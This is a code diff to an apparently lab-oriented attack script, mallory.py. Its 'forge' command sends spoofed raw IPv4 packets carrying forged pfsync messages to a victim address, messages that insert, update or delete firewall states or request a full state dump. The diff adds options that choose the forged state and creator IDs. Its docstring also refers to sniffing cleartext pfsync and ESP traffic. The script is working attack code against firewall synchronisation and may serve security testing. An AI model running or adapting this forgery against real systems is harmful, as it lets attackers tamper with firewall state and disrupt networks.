@@ -6,7 +6,8 @@
     seen = mallory.look(secrets(flows))         what the recording reveals
     seen.clear_pfsync, seen.esp, seen.leaks
 
-Program: mallory.py forge --victim ADDRESS --as ADDRESS --count N
+Program: mallory.py forge --victim ADDRESS --as ADDRESS --count N [--first N] [--step N]
+                    [--creators ID,...]
 """
 
 from __future__ import annotations
@@ -22,7 +23,7 @@ import time
 from collections import Counter
 from dataclasses import dataclass, field
 from pathlib import Path
-from typing import Iterable, Iterator
+from typing import Iterable, Iterator, Sequence
 
 from lab import PYTHON, wait_for
 
@@ -70,9 +71,12 @@ def pfsync(action: int, *messages: bytes) -> bytes:
     return struct.pack("!BBH", 6, 0, 20 + len(body)) + bytes(16) + body
 
 
-def forgery(number: int) -> bytes:
+CREATORS = 0, 1, 0x01000000, 0xDEADBEEF
+
+
+def forgery(number: int, creators: Sequence[int] = CREATORS) -> bytes:
     """In turn: insert, update, delete, delete all, request everything."""
-    creator = (0, 1, 0x01000000, 0xDEADBEEF)[number % 4]
+    creator = creators[number // 10 % len(creators)]
     kind = number % 10
     ident = struct.pack("!QI", 0x6666000000000000 + number, creator)
     if kind == 6:
@@ -97,11 +101,12 @@ def ipv4(source: str, destination: str, payload: bytes, protocol: int = PROTO_PF
                        socket.inet_aton(source), socket.inet_aton(destination)) + payload
 
 
-def forge(victim: str, name: str, count: int) -> None:
+def forge(victim: str, name: str, count: int, first: int, step: int,
+          creators: Sequence[int]) -> None:
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     sent = 0
-    for number in range(count):
-        sent += raw.sendto(ipv4(name, victim, forgery(number)), (victim, 0)) > 0
+    for number in range(first, first + count * step, step):
+        sent += raw.sendto(ipv4(name, victim, forgery(number, creators)), (victim, 0)) > 0
         if number % 50 == 49:
             time.sleep(0.01)  # so that none is lost to a full buffer
     print(json.dumps({"sent": sent}))
@@ -300,6 +305,10 @@ def main() -> None:
     sub.add_argument("--victim", required=True)
     sub.add_argument("--as", required=True, dest="name")
     sub.add_argument("--count", type=int, required=True)
+    sub.add_argument("--first", type=int, default=0)
+    sub.add_argument("--step", type=int, default=1)
+    sub.add_argument("--creators", default=CREATORS,
+                     type=lambda text: [int(each, 16) for each in text.split(",")])
     forge(**vars(parser.parse_args()))
 
 
